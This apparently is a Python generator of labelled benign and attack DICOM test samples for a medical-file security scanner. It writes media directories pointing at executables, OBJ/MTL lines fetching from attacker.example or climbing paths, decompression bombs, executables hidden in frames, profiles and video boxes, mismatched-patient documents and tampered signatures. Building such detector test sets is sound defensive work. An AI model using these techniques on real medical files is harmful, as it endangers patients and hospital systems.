"""DICOM samples of version 3: directories, shapes, deflated frames, profiles, other patients, signatures.

Source: PS3.3 F.3 (directories), A.85 and C.24 (shapes and documents), C.12.1.1.3 (signatures); PS3.5 A.4.13 (deflated
frames); ICC.1:2022 section 7 (profiles); PS3.18 section 8.6 (parts of a store request).
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator

from safecare.testing.medical_attacks.carriers import cda, non_xml
from safecare.testing.medical_attacks.dicom import SIDE, image
from safecare.testing.medical_attacks.payloads import SCRIPTS, elf, jpeg, pdf, pe, zipped
from safecare.testing.medical_attacks.sample import Label, Sample
from safecare.testing.medical_attacks.signer import signed
from safecare.testing.medical_attacks.writer import (
    ENCAPSULATED_CDA,
    JPEG,
    MEDIA_DIRECTORY,
    MPEG4,
    ROOT,
    Image,
    Items,
)

ENCAPSULATED_OBJ, ENCAPSULATED_MTL = "1.2.840.10008.5.1.4.1.1.104.4", "1.2.840.10008.5.1.4.1.1.104.5"
DEFLATED_FRAME = "1.2.840.10008.1.2.8.1"
"""Encapsulated OBJ and MTL Storage, Deflated Image Frame Compression: PS3.6 annex A."""
NAME, NUMBER, BIRTH = (0x00100010, "PN"), (0x00100020, "LO"), (0x00100030, "DA")


def _one(technique: str, variant: str, what: str, raw: bytes, twin: str = "") -> Sample:
    label: Label = "attack" if twin else "benign"
    name = f"dicom-{technique}-{variant}.dcm" if twin else f"dicom-benign-{variant}.dcm"
    told = f"dicom-benign-{twin}.dcm" if twin else ""
    return Sample(name=name, label=label, family="dicom", technique=technique, what=what, raw=raw, twin=told)


def directories(_: random.Random) -> Iterator[Sample]:
    """Yield directories whose records are files that run, or lead back to themselves."""

    def made(names: tuple[str, ...], after: dict[int, int] | None = None) -> bytes:
        records: list[Items] = [
            {
                (0x00041400, "UL"): 0,
                (0x00041410, "US"): 0xFFFF,
                (0x00041420, "UL"): 0,
                (0x00041430, "CS"): "IMAGE",
                (0x00041500, "CS"): name,
            }
            for name in names
        ]
        told: Items = {(0x00041200, "UL"): 0, (0x00041202, "UL"): 0, (0x00041220, "SQ"): records}
        one = Image(sop_class=MEDIA_DIRECTORY, items=told)
        raw = one.write()
        starts, at = [], raw.index(struct.pack("<HH", 4, 0x1220)) + 12
        for _ in records:
            starts.append(at)
            at += 8 + struct.unpack("<I", raw[at + 4 : at + 8])[0]
        told[0x00041200, "UL"], told[0x00041202, "UL"] = starts[0], starts[-1]
        for place in range(len(records) - 1):
            records[place][0x00041400, "UL"] = starts[place + 1]
        for place, to in (after or {}).items():
            records[place][0x00041400, "UL"] = starts[to]
        return one.write()

    images = ("IMAGES\\IM00001", "IMAGES\\IM00002", "IMAGES\\IM00003.DCM")
    yield _one("file-set", "chain", "A directory of three images, one with an ending.", made(images))
    for name in ("AUTORUN.EXE", "IMAGES\\VIEW.BAT", "SETUP.LNK", "AUTORUN.INF", "IMAGES\\IM1.HTA"):
        variant = name.lower().replace("\\", "-").replace(".", "-")
        what = "An image of the directory is a file that runs."
        yield _one("file-set", f"runs-{variant}", what, made((*images[:2], name)), "chain")
    for variant, after in {"own": {2: 2}, "first": {2: 0}, "two": {1: 0}}.items():
        yield _one("file-set", f"ring-{variant}", "Records lead back to themselves.", made(images, after), "chain")


def shapes(rng: random.Random) -> Iterator[Sample]:
    """Yield shapes and materials that are fetched from elsewhere, or run something."""

    def made(text: str, kind: str) -> bytes:
        told: Items = {
            (0x00080060, "CS"): "M3D",
            (0x00420011, "OB"): text.encode(),
            (0x00420012, "LO"): f"model/{kind}",
        }
        return image(rng, items=told, sop_class=ENCAPSULATED_OBJ if kind == "obj" else ENCAPSULATED_MTL).write()

    body = "# SAFECARE-INERT-TEST\no femur\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n"
    yield _one("mesh", "obj", "A shape with its library beside it.", made(f"mtllib femur.mtl\n{body}", "obj"))
    yield _one("mesh", "mtl", "A material with its texture beside it.", made("newmtl a\nmap_Kd os/femur.png\n", "mtl"))
    for variant, line in {
        "share": "mtllib \\\\attacker.example\\s\\a.mtl",
        "web": "mtllib http://attacker.example/a.mtl",
        "climbs": "mtllib ../../../etc/a.mtl",
        "shell": "csh echo SAFECARE-INERT-TEST",
        "shell-quiet": "csh -echo SAFECARE-INERT-TEST",
        "calls": "call /tmp/a.obj 1 2",
        "calls-web": "call https://attacker.example/a.obj",
    }.items():
        yield _one("mesh", f"obj-{variant}", "A shape that reaches out.", made(f"{line}\n{body}", "obj"), "obj")
    for variant, line in {
        "share": "map_Kd \\\\attacker.example\\s\\a.png",
        "web": "map_Bump https://attacker.example/a.png",
        "climbs": "map_Ka -s 1 1 1 ..\\..\\windows\\a.png",
        "file": "bump file:///etc/a.png",
    }.items():
        yield _one("mesh", f"mtl-{variant}", "A material that reaches out.", made(f"newmtl a\n{line}\n", "mtl"), "mtl")


def frames(rng: random.Random) -> Iterator[Sample]:
    """Yield frames that inflate to more than an image, or to a file; tables and boxes that hold one."""

    def packed(raw: bytes, tail: bytes = b"") -> bytes:
        deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
        return image(rng, DEFLATED_FRAME, fragments=(deflater.compress(raw) + deflater.flush() + tail,)).write()

    voxels = rng.randbytes(2 * SIDE * SIDE)
    yield _one("frames", "deflated-frame", "A frame in Deflated Image Frame Compression.", packed(voxels))
    yield _one("frames", "deflated-mask", "A frame that is almost empty.", packed(bytes(2 * SIDE * SIDE)))
    what = "A frame that inflates to far more than its image."
    yield _one("bomb", "deflated-frame", what, packed(bytes(30_000_000)), "deflated-mask")
    for name, payload in {"pe": pe(), "elf": elf(), "sh": SCRIPTS["sh"]}.items():
        what = "A deflated frame that is a file of another kind."
        yield _one("frames", f"deflated-{name}", what, packed(payload.ljust(512, b"\0")), "deflated-frame")
        yield _one("frames", f"deflated-behind-{name}", what, packed(voxels, payload), "deflated-frame")
    extended: Items = {(0x7FE00001, "OV"): struct.pack("<Q", 0), (0x7FE00002, "OV"): struct.pack("<Q", len(jpeg()))}
    told = image(rng, JPEG, items=extended, fragments=(jpeg(),)).write()
    yield _one("fragment", "extended-table", "Frames with an extended offset table.", told)
    for name, payload in {"pe": pe(), "zip": zipped()}.items():
        held: Items = {**extended, (0x7FE00001, "OV"): payload.ljust(-(-len(payload) // 8) * 8, b"\0")}
        what = "An extended offset table that is a file."
        raw = image(rng, JPEG, items=held, fragments=(jpeg(),)).write()
        yield _one("fragment", f"extended-table-{name}", what, raw, "extended-table")

    def film(free: bytes) -> bytes:
        boxes = ((b"ftyp", b"mp42\0\0\0\0mp42isom"), (b"free", free), (b"mdat", rng.randbytes(600)))
        raw = b"".join(struct.pack(">I", len(one) + 8) + kind + one for kind, one in boxes)
        return image(rng, MPEG4, fragments=(raw,)).write()

    yield _one("frames", "film-free", "A film with free space.", film(bytes(300)))
    for name, payload in {"pe": pe(), "elf": elf()}.items():
        yield _one("frames", f"film-{name}", "A film whose free space is a file.", film(payload), "film-free")


def profiles(rng: random.Random) -> Iterator[Sample]:
    """Yield profiles of colours with a file in a tag of their own, or behind them."""

    def made(extra: bytes = b"", tail: bytes = b"") -> bytes:
        tags = [(b"cprt", b"text\0\0\0\0SAFECARE\0\0\0\0"), *([(b"priv", extra)] if extra else [])]
        at, table, values = 132 + 12 * len(tags), b"", b""
        for name, value in tags:
            value = value.ljust(-(-len(value) // 4) * 4, b"\0")  # noqa: PLW2901
            table += name + struct.pack(">II", at + len(values), len(value))
            values += value
        body = struct.pack(">I", len(tags)) + table + values
        head = struct.pack(">I4sI4s4s4s", 128 + len(body), b"test", 0x02100000, b"mntr", b"RGB ", b"XYZ ")
        return image(rng, items={(0x00282000, "OB"): head.ljust(36, b"\0") + b"acsp" + bytes(88) + body + tail}).write()

    yield _one("bulk", "profile", "A profile of colours.", made())
    for name, payload in {"pe": pe(), "elf": elf(), "sh": SCRIPTS["sh"]}.items():
        yield _one("bulk", f"profile-{name}", "A profile of colours that holds a file.", made(payload), "profile")
        what = "A file behind a profile of colours."
        yield _one("bulk", f"profile-behind-{name}", what, made(tail=payload), "profile")


def patient(family: str = "EXEMPLE", given: str = "ALIX", birth: str = "19700101", number: str = "T000042") -> str:
    """Return a patient as a CDA document writes one."""
    return (
        f'<recordTarget><patientRole><id root="{ROOT}" extension="{number}"/><patient><name><family>{family}</family>'
        f'<given>{given}</given></name><birthTime value="{birth}"/></patient></patientRole></recordTarget>'
    )


def told_of(who: str, body: str) -> bytes:
    """Return a CDA document about a patient (`patient`)."""
    return cda(body).replace(b"<component>", who.encode() + b"<component>", 1)


def patients(rng: random.Random) -> Iterator[Sample]:
    """Yield documents of one patient under another's cover."""
    body = non_xml(pdf(""))
    cases = {
        "same": patient(),
        "married": patient("EXEMPLE-DUPONT", "Alix"),
        "born-unsure": patient(birth="19700102"),
        "accent": patient("ÉXEMPLE", "Alix"),
        "no-birth": patient("AUTRE", "NOM", ""),
    }
    others = {
        "other": patient("AUTRE", "CAMILLE", "19451224", "T000043"),
        "other-short": patient("LE", "AN", "20200229", "1"),
    }
    own: Items = {NAME: "EXEMPLE^ALIX", BIRTH: "19700101", (0x00080060, "CS"): "DOC", (0x00420012, "LO"): "text/XML"}
    for variant, who in {**cases, **others}.items():
        raw = image(
            rng, items={**own, (0x00420011, "OB"): told_of(who, body)}, sop_class=ENCAPSULATED_CDA, preamble=b""
        ).write()
        if variant in cases:
            yield _one("patient", f"cda-{variant}", "An encapsulated document of the same patient.", raw)
        else:
            yield _one("patient", f"cda-{variant}", "An encapsulated document of another patient.", raw, "cda-same")


def signatures(rng: random.Random) -> Iterator[Sample]:
    """Yield signed data sets that nobody changed, and some that somebody did."""
    items: Items = {**image(rng).items, BIRTH: "19700101", (0x00081140, "SQ"): [{(0x00081155, "UI"): ROOT}]}

    def made(held: Items, pixels: bytes | None = None, *, undefined: bool = False) -> bytes:
        return Image(items=held, pixels=pixels, undefined=undefined).write()

    for algorithm in ("SHA256", "SHA384", "SHA512"):
        held = signed(items, f"{algorithm}", algorithm)
        yield _one("signature", f"signed-{algorithm.lower()}", "A signed data set.", made(held))
    held = signed(items, "signer")
    yield _one(
        "signature", "signed-undefined", "A signed data set, its lengths written anew.", made(held, undefined=True)
    )
    unknown = signed(items, "signer", said="RIPEMD160")
    yield _one("signature", "signed-unknown", "A signature by an algorithm that few know.", made(unknown))
    beside: Items = {**held, (0x00104000, "LT"): "Ajouté depuis, non signé."}
    yield _one("signature", "signed-beside", "An element was added beside what is signed.", made(beside))
    voxels = rng.randbytes(2 * SIDE * SIDE)
    whole = signed({**items, (0x7FE00010, "OW"): voxels}, "signer")
    yield _one("signature", "signed-pixels", "Signed with its pixels.", made(whole))
    changed: dict[str, Items] = {
        "name": {NAME: "AUTRE^NOM"},
        "number": {NUMBER: "T999999"},
        "birth": {BIRTH: "19700102"},
        "sequence": {(0x00081140, "SQ"): [{(0x00081155, "UI"): ROOT + ".1"}]},
        "item-more": {(0x00081140, "SQ"): [{(0x00081155, "UI"): ROOT}, {(0x00081155, "UI"): ROOT}]},
    }
    for variant, change in changed.items():
        what = "What was signed was changed since."
        yield _one("signature", f"changed-{variant}", what, made({**held, **change}), "signed-sha256")
    gone = {key: value for key, value in held.items() if key != NAME}
    yield _one("signature", "changed-gone", "What was signed is gone.", made(gone), "signed-sha256")
    turned = {**whole, (0x7FE00010, "OW"): voxels[:100] + bytes([voxels[100] ^ 1]) + voxels[101:]}
    yield _one("signature", "changed-pixel", "One bit of the signed pixels was changed.", made(turned), "signed-pixels")
    borrowed = signed({**items, NAME: "AUTRE^NOM"}, "signer")
    held = {**held, (0xFFFAFFFA, "SQ"): borrowed[0xFFFAFFFA, "SQ"]}
    yield _one("signature", "changed-borrowed", "The signature of another data set.", made(held), "signed-sha256")


FAMILIES = (directories, shapes, frames, profiles, patients, signatures)
"""What `generate` calls, in this order."""
